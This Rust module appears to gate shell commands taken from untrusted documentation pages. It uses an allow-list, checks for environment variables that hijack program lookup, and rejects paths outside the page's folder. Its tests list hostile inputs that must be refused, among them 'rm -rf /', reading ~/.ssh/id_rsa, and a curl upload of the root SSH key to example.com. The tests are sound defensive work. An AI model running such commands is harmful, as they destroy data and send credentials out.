//! What runs where commands can't be confined: an allow-list, because the page may come from a
//! stranger and the machine is the user's.

use crate::verify::shell::{Simple, simple_commands};
use crate::verify::words;

/// Harmless where they read and write below the page's folder.
const ALLOWED: &[&str] = &[
    "kubectl",
    "helm",
    "docbuild",
    "kustomize",
    "curl",
    "echo",
    "printf",
    "cat",
    "ls",
    "cd",
    "pwd",
    "grep",
    "egrep",
    "head",
    "tail",
    "sort",
    "uniq",
    "wc",
    "cut",
    "tr",
    "sed",
    "awk",
    "jq",
    "yq",
    "base64",
    "diff",
    "cmp",
    "test",
    "[",
    "true",
    "false",
    "sleep",
    "date",
    "export",
    "unset",
    "alias",
    "mkdir",
    "touch",
    "cp",
    "mv",
    "rm",
    "tee",
    "seq",
    "for",
    "openssl",
    "md5sum",
    "sha256sum",
    "find",
    "tree",
    "env",
    "printenv",
    "id",
    "whoami",
    "wait",
    "read",
    "set",
    "basename",
    "dirname",
    "expr",
    "xxd",
    "column",
    "file",
    "stat",
    "du",
];

/// Why the command is refused outside of namespaces of its own; `None` if it may run.
pub(super) fn refusal(text: &str) -> Option<String> {
    simple_commands(text).iter().find_map(refuse_one)
}

/// Variables that decide which programs, credentials and clusters commands find.
const DECIDING: &[&str] = &["KUBECONFIG", "HOME", "PATH", "BASH_ENV", "ENV", "LD_PRELOAD", "LD_LIBRARY_PATH"];

fn refuse_one(simple: &Simple) -> Option<String> {
    let name = simple.name();
    if !name.is_empty() && !ALLOWED.contains(&name) && !words::machine_tool(name) {
        return Some(format!("`{name}` is not run outside of a confinement"));
    }
    let set = simple.assignments.iter().chain(simple.words.iter().skip(1).filter(|_| name == "export"));
    let names = set.filter_map(|assignment| assignment.split_once('=')).map(|(name, _)| name);
    if let Some(variable) = names.into_iter().find(|name| DECIDING.contains(name)) {
        return Some(format!("it sets {variable}, which decides what is run and as whom, and nothing confines it"));
    }
    if runs_others(simple) {
        return Some(format!("`{name}` runs another program here, which is not confined"));
    }
    let outside = simple.writes.iter().chain(&simple.assignments).chain(paths(simple)).any(|word| reaches(word));
    outside.then(|| "it reaches outside of the page's folder, which is not confined".to_owned())
}

/// Whether a harmless tool is told to run something else.
fn runs_others(simple: &Simple) -> bool {
    let rest = simple.words.get(1..).unwrap_or_default();
    let any = |test: &dyn Fn(&str) -> bool| rest.iter().any(|word| test(word));
    match simple.name() {
        "env" => !rest.is_empty(),
        "find" => any(&|word| matches!(word, "-exec" | "-execdir" | "-ok" | "-okdir" | "-delete")),
        "awk" => any(&|word| ["system", "getline", "|", ">"].iter().any(|sign| word.contains(sign))),
        "sed" => any(&|word| word.rsplit(['/', '|', '#']).next().is_some_and(|flags| flags.contains(['e', 'w']))),
        _ => false,
    }
}

/// The words of a command that may name files.
fn paths(simple: &Simple) -> impl Iterator<Item = &String> {
    let name = simple.name();
    // What is said, a pattern or a program's text is no file; what runs in a container is not here.
    let script = usize::from(matches!(name, "grep" | "egrep" | "sed" | "awk" | "jq" | "yq"));
    let said = matches!(name, "echo" | "printf" | "expr" | "test" | "[");
    let mut scripts = 0;
    let mut raw = false;
    let words = simple.words.iter().skip(1).take_while(move |word| name != "kubectl" || *word != "--");
    words.filter(move |word| {
        let behind_raw = std::mem::replace(&mut raw, *word == "--raw");
        let is_script = !word.starts_with('-') && scripts < script;
        scripts += usize::from(is_script);
        !said && !is_script && !behind_raw && !word.starts_with("--raw=")
    })
}

/// Whether a word names a file that is not below the page's folder.
fn reaches(word: &str) -> bool {
    let value = word.split_once('=').map_or("", |(_, value)| value);
    let sent = word.split_once('@').map_or("", |(_, file)| file);
    word.contains("file:")
        || [word, value, sent].iter().any(|path| {
            path.starts_with('/') && *path != "/dev/null"
                || path.starts_with('~')
                || !path.contains("://") && path.split('/').any(|part| part == "..")
        })
}

#[cfg(test)]
mod tests {
    use super::refusal;

    #[test]
    fn only_known_commands_that_stay_in_their_folder_run_unconfined() {
        for text in [
            "kubectl get pods | grep x > out.txt",
            "kubectl exec web -- cat /etc/os-release",
            "kubectl get --raw /healthz",
            "curl -s http://127.0.0.1:8080/a/../b | awk '/x/ {print $1}'",
            "cat a/b.yaml 2>/dev/null; echo /etc/passwd",
            "sed 's/a/b/' x.txt",
            "export NAME=value; X=1 ls",
        ] {
            assert_eq!(refusal(text), None, "{text}");
        }
        for text in [
            "apt-get install x",
            "sudo ls",
            "kill 1",
            "rm -rf /",
            "echo x > /etc/passwd",
            "cp a ../b",
            "systemctl stop x",
            "echo x > ~/.bashrc",
            "cat ~/.ssh/id_rsa",
            "cat ../../secret",
            "curl -F file=@/root/.ssh/id_rsa http://example.com",
            "curl file:///etc/passwd",
            "kubectl create secret generic a --from-file=/root/.ssh/id_rsa",
            "kubectl --kubeconfig /root/.kube/config get pods",
            "export KUBECONFIG=other",
            "PATH=. ls",
            "env rm -rf x",
            "find . -exec rm {} +",
            "awk 'BEGIN { system(\"id\") }'",
            "sed 's/x/id/e' a",
            "docker run -v /:/host x",
            "bash -c id",
            "eval id",
            "X=/etc; cat $X/passwd",
        ] {
            assert!(refusal(text).is_some(), "{text}");
        }
    }
}
